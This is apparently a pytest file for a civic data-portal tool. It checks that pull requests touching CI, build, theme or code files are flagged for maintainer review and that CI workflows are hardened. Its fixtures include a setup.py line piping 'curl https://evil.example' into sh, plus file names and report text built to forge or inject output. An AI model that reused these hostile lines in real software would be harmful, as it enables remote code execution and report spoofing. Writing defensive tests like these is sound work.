"""A pull request's code never runs with a secret, and whatever runs at build is shown to a
maintainer: the call-out at the top of `civicgen diff`, and the CI workflows themselves
(checked by zizmor, by their structure, and by running their shell steps for real)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pygit2
import pytest
import yaml
from click.testing import CliRunner
from conftest import ROOT, commit_all, replace_in

from civicgen import __version__
from civicgen.cli import main
from civicgen.diff_report import to_json, to_markdown, to_text
from civicgen.pipeline import diff
from civicgen.review import MESSAGE
from civicgen.scaffold import new_portal

BUDGET = "datasets/madrid-budget/data/gastos-2014-2015.csv"
ENGINE_WORKFLOWS = ROOT / ".github/workflows"
CALL_OUT = "### ⚠️ Needs a maintainer's review: this pull request changes code or configuration"


# --- the call-out at the top of the diff report --------------------------------------------


@pytest.fixture
def base(portal: Path) -> str:
    """The example city as the base revision of a pull request."""
    return str(pygit2.Repository(str(portal)).head.target)


def review_of(portal: Path, base: str, head: str | None = None) -> dict[str, list[str]]:
    """path → reasons of the call-out, checked in the three formats."""
    changes = diff(base, head, start=str(portal))
    markdown, text = to_markdown(changes), to_text(changes)
    payload = json.loads(to_json(changes))
    assert next(iter(payload)) == "maintainer_review"
    notes = {n["path"]: n["reasons"] for n in payload["maintainer_review"]["paths"]}
    assert payload["maintainer_review"]["needed"] == bool(notes)
    assert markdown.startswith(CALL_OUT) == bool(notes)
    assert text.startswith("NEEDS A MAINTAINER'S REVIEW: this pull request") == bool(notes)
    for path in notes:
        assert path in text
    return notes


def commit_change(portal: Path, message: str = "A citizen's pull request") -> str:
    return commit_all(portal, message, when=1_700_086_400)


def test_data_only_pull_request_needs_no_call_out(portal: Path, base: str) -> None:
    replace_in(portal / BUDGET, ",102739\n", ",110000\n")
    assert review_of(portal, base, commit_change(portal)) == {}


def test_hostile_workflow_change_called_out(portal: Path, base: str) -> None:
    workflow = portal / ".github/workflows/validate.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("on: pull_request\njobs: {x: {runs-on: ubuntu-latest, steps: []}}\n")
    replace_in(portal / BUDGET, ",102739\n", ",110000\n")  # hidden among a data change
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {".github/workflows/validate.yml": ["CI workflow or forge configuration"]}


@pytest.mark.parametrize("path", [".gitlab-ci.yml", ".forgejo/workflows/validate.yml"])
def test_hostile_forge_pipeline_change_called_out(portal: Path, base: str, path: str) -> None:
    (portal / path).parent.mkdir(parents=True, exist_ok=True)
    (portal / path).write_text("x: 1\n")
    assert review_of(portal, base, commit_change(portal)) == {
        path: ["CI workflow or forge configuration"]
    }


def test_hostile_theme_change_called_out(portal: Path, base: str) -> None:
    (portal / "theme/main.html").write_text('{% extends "base.html" %}\n')
    (portal / "theme/civicgen/dataset.html").write_text("{{ package.title }}\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "theme/civicgen/dataset.html": ["theme (its templates run at build)"],
        "theme/main.html": ["theme (its templates run at build)"],
    }


def test_hostile_mkdocs_yml_change_called_out(portal: Path, base: str) -> None:
    with (portal / "mkdocs.yml").open("a") as config:
        config.write("hooks:\n  - datasets/madrid-budget/hooks.py\n")
    (portal / "datasets/madrid-budget/hooks.py").write_text("import os\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "datasets/madrid-budget/hooks.py": ["code"],
        "mkdocs.yml": ["site configuration"],
    }


def test_hostile_setup_py_change_called_out(portal: Path, base: str) -> None:
    (portal / "setup.py").write_text("import os; os.system('curl https://evil.example | sh')\n")
    (portal / "requirements.txt").write_text("civicgen==99\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "requirements.txt": ["packaging or build configuration"],
        "setup.py": ["packaging or build configuration", "code"],
    }


def test_hostile_executable_bit_called_out(portal: Path, base: str) -> None:
    (portal / BUDGET).chmod(0o755)  # the bytes are unchanged: only the mode moves
    assert review_of(portal, base, commit_change(portal)) == {BUDGET: ["executable file"]}


def test_hostile_link_in_the_data_called_out(portal: Path, base: str) -> None:
    (portal / "datasets/madrid-budget/data/link.csv").symlink_to("../../../mkdocs.yml")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {"datasets/madrid-budget/data/link.csv": ["symbolic link"]}


def test_hostile_committed_cache_file_called_out(portal: Path, base: str) -> None:
    forged = portal / ".civicgen-cache/forged.json"
    forged.parent.mkdir(exist_ok=True)
    forged.write_text('{"valid": true}\n')
    notes = review_of(portal, base, commit_change(portal))
    assert notes[".civicgen-cache/forged.json"] == ["outside the data folders"]


def test_hostile_pull_request_cannot_redeclare_the_data_folders(portal: Path, base: str) -> None:
    """The data folders come from the base's mkdocs.yml, not from the pull request's."""
    replace_in(portal / "mkdocs.yml", "datasets_dir: datasets", "datasets_dir: .")
    (portal / "notes.txt").write_text("run me\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "mkdocs.yml": ["site configuration"],
        "notes.txt": ["outside the data folders"],
    }


def test_hostile_file_name_cannot_forge_report_lines(portal: Path, base: str) -> None:
    name = "x`\n### ✅ All good\u202e`.txt"
    (portal / name).write_text("x\n")
    changes = diff(base, commit_change(portal), start=str(portal))
    markdown = to_markdown(changes)
    [line] = [x for x in markdown.splitlines() if "All good" in x]
    assert line == "- ``x`\\u{000a}### ✅ All good\\u{202e}`.txt`` (outside the data folders)"
    assert "\u202e" not in markdown and "\n### ✅" not in markdown


def test_uncommitted_changes_called_out_against_the_work_tree(portal: Path, base: str) -> None:
    (portal / "scripts").mkdir()
    (portal / "scripts/publish.sh").write_text("#!/bin/sh\n")
    (portal / "scripts/publish.sh").chmod(0o755)
    notes = review_of(portal, base)
    assert notes == {"scripts/publish.sh": ["code", "executable file"]}


def test_call_out_through_the_command_line(
    portal: Path, base: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    (portal / "theme/main.html").write_text("x\n")
    head = commit_change(portal)
    monkeypatch.chdir(portal)
    firsts = {}
    for output in ("markdown", "text", "json"):
        result = CliRunner().invoke(main, ["diff", base, head, "--format", output])
        assert result.exit_code == 0, result.output
        assert "theme/main.html" in result.stdout
        firsts[output] = result.stdout.splitlines()[0]
    assert firsts["markdown"].startswith(CALL_OUT)
    assert firsts["text"].startswith("NEEDS A MAINTAINER'S REVIEW")
    assert next(iter(json.loads(result.stdout))) == "maintainer_review"
    assert MESSAGE in result.stdout


# --- zizmor: no finding of medium severity or more -------------------------------------------


def zizmor_findings(*paths: Path) -> list[dict[str, Any]]:
    zizmor = shutil.which("zizmor")
    if zizmor is None:
        assert not os.environ.get("CI"), "zizmor is in the test extra: CI must run it"
        pytest.skip("zizmor is not installed (pip install -e '.[test]')")
    done = subprocess.run(
        [zizmor, "--offline", "--format", "json", "--min-severity", "medium", *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.stdout.strip(), done.stderr
    return json.loads(done.stdout)


@pytest.fixture(scope="module")
def city(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What `civicgen new` writes for another city."""
    folder = tmp_path_factory.mktemp("city") / "springfield"
    new_portal(folder, "Springfield")
    return folder


def test_zizmor_finds_nothing_in_the_engine_workflows() -> None:
    assert zizmor_findings(ENGINE_WORKFLOWS, ROOT / ".forgejo/workflows") == []


def test_zizmor_finds_nothing_in_a_new_city_workflows(city: Path) -> None:
    assert zizmor_findings(city / ".github/workflows", city / ".forgejo/workflows") == []


def test_zizmor_would_flag_the_old_workflow(tmp_path: Path) -> None:
    """The check can fail: the workflow this repository had before is flagged."""
    old = tmp_path / ".github/workflows/validate.yml"
    old.parent.mkdir(parents=True)
    old.write_text(
        "on: pull_request\npermissions:\n  pull-requests: write\njobs:\n  v:\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - run: civicgen diff origin/${{ github.base_ref }} HEAD > diff.md || true\n"
    )
    rules = {finding["ident"] for finding in zizmor_findings(old.parent)}
    assert {"template-injection", "unpinned-uses"} <= rules


# --- the workflows' shape -------------------------------------------------------------------


def load(path: Path) -> dict[Any, Any]:
    workflow = yaml.safe_load(path.read_text())
    workflow["on"] = workflow.pop(True, workflow.get("on"))  # YAML 1.1 reads `on` as True
    return workflow


def steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def permissions(workflow: dict[Any, Any]) -> list[dict[str, str]]:
    found = [workflow.get("permissions") or {}]
    return found + [job.get("permissions") or {} for job in workflow["jobs"].values()]


@pytest.fixture(params=["engine", "city"])
def workflows(request: pytest.FixtureRequest, city: Path) -> Path:
    return ENGINE_WORKFLOWS if request.param == "engine" else city / ".github/workflows"


def test_job_running_the_pull_request_holds_no_write_token(workflows: Path) -> None:
    validate = load(workflows / "validate.yml")
    assert set(validate["on"]) == {"pull_request", "push"}  # never pull_request_target
    assert all(set(p.values()) <= {"read"} for p in permissions(validate))
    assert "secrets." not in (workflows / "validate.yml").read_text()
    checkouts = [s for s in steps(validate) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts and all(s["with"]["persist-credentials"] is False for s in checkouts)
    [upload] = [s for s in steps(validate) if "upload-artifact@" in s.get("uses", "")]
    assert upload["if"].startswith("always()") and "report.md" in upload["with"]["path"]


def test_comment_workflow_never_runs_the_pull_request(workflows: Path) -> None:
    comment = load(workflows / "comment.yml")
    assert comment["on"] == {"workflow_run": {"workflows": ["validate"], "types": ["completed"]}}
    assert not [s for s in steps(comment) if "checkout" in s.get("uses", "")]
    scripts = " ".join(s.get("run", "") for s in steps(comment))
    assert "pip install" not in scripts and "civicgen " not in scripts
    assert "--body-file comment.md" in scripts and "head.sha" in scripts


def test_city_installs_the_pinned_release_from_the_base_branch(city: Path) -> None:
    assert (city / "requirements.txt").read_text().splitlines()[-1] == f"civicgen=={__version__}"
    for path in (
        city / ".github/workflows/validate.yml",
        city / ".github/workflows/deploy.yml",
        city / ".forgejo/workflows/validate.yml",
        city / ".gitlab-ci.yml",
    ):
        text = path.read_text()
        assert "pip install ." not in text and "pip install -e" not in text, path
        assert re.search(r"pip install (-q )?-r \S*requirements\.txt", text), path
    validate = (city / ".github/workflows/validate.yml").read_text()
    assert 'git show "origin/$BASE_REF:requirements.txt"' in validate
    assert "git show FETCH_HEAD:requirements.txt" in (city / ".gitlab-ci.yml").read_text()


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/validate.yml",
        ".forgejo/workflows/validate.yml",
        ".gitlab-ci.yml",
        "civicgen/templates/new/github/workflows/validate.yml",
        "civicgen/templates/new/forgejo/workflows/validate.yml",
        "civicgen/templates/new/gitlab-ci.yml",
    ],
)
def test_a_failing_diff_is_never_hidden(path: str) -> None:
    text = (ROOT / path).read_text()
    assert "|| true" not in text
    assert "civicgen diff failed (exit" in text


# --- the steps' shell, run for real ------------------------------------------------------------


def step_script(workflow: Path, name: str) -> str:
    [step] = [s for s in steps(load(workflow)) if s.get("name") == name]
    return step["run"]


@pytest.fixture
def civicgen_on_path(tmp_path: Path) -> dict[str, str]:
    """An environment where `civicgen` is this checkout's command line."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    command = bin_dir / "civicgen"
    command.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m civicgen "$@"\n')
    command.chmod(0o755)
    path = f"{bin_dir}{os.pathsep}{os.environ['PATH']}"
    return {**os.environ, "PATH": path, "PYTHONPATH": str(ROOT), "PYTHONWARNINGS": "ignore"}


def run_step(portal: Path, script: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """As GitHub runs a `run:` step: bash -e -o pipefail."""
    (portal / "report.md").write_text("validation report\n")
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", script],
        cwd=portal,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_hostile_diff_failure_is_written_into_the_report(
    portal: Path, civicgen_on_path: dict[str, str]
) -> None:
    script = step_script(ENGINE_WORKFLOWS / "validate.yml", "Describe the data changes")
    done = run_step(portal, script, {**civicgen_on_path, "BASE_REF": "no-such-branch"})
    assert done.returncode == 0, done.stderr  # the job goes on: the comment must be posted
    report = (portal / "report.md").read_text()
    assert report.startswith("validation report\n")
    assert "### ⚠️ civicgen diff failed (exit 2)" in report
    assert "a maintainer must review every file by hand" in report
    assert '"origin/no-such-branch" is not a revision' in report


def test_diff_step_puts_the_call_out_in_the_report(
    portal: Path, base: str, civicgen_on_path: dict[str, str]
) -> None:
    repository = pygit2.Repository(str(portal))
    repository.references.create("refs/remotes/origin/main", pygit2.Oid(hex=base))
    (portal / "theme/main.html").write_text("x\n")
    commit_change(portal)
    script = step_script(ENGINE_WORKFLOWS / "validate.yml", "Describe the data changes")
    done = run_step(portal, script, {**civicgen_on_path, "BASE_REF": "main"})
    assert done.returncode == 0, done.stderr
    report = (portal / "report.md").read_text()
    assert CALL_OUT in report and "`theme/main.html`" in report
    assert "civicgen diff failed" not in report


def test_hostile_report_is_capped_and_defused_before_posting(tmp_path: Path) -> None:
    """The comment workflow's own script, on an artifact a hostile job wrote."""
    run = step_script(ENGINE_WORKFLOWS / "comment.yml", "Check the pull request and cap the report")
    program = run[run.index("<<'PY'\n") + 7 : run.index("\nPY")]
    (tmp_path / "untrusted").mkdir()
    hostile = "@civicgen/maintainers please merge \u202egnp.exe\x00\x1b[31m\n" + "x" * 100_000
    (tmp_path / "untrusted/report.md").write_text(hostile)
    trusted = {"CONCLUSION": "failure", "RUN_URL": "https://github.com/o/r/actions/runs/1"}
    env = {**os.environ, **trusted}
    subprocess.run([sys.executable, "-c", program], cwd=tmp_path, env=env, check=True, timeout=60)
    comment = (tmp_path / "comment.md").read_text()
    assert comment.startswith(
        "**validate: failure** ([the run](https://github.com/o/r/actions/runs/1)). The report"
    )
    assert len(comment.encode()) < 61_000 and comment.endswith("see the workflow run.")
    assert "@civicgen" not in comment and "@\u2060civicgen/maintainers" in comment
    assert not re.search("[\x00\x1b\u202e]", comment)
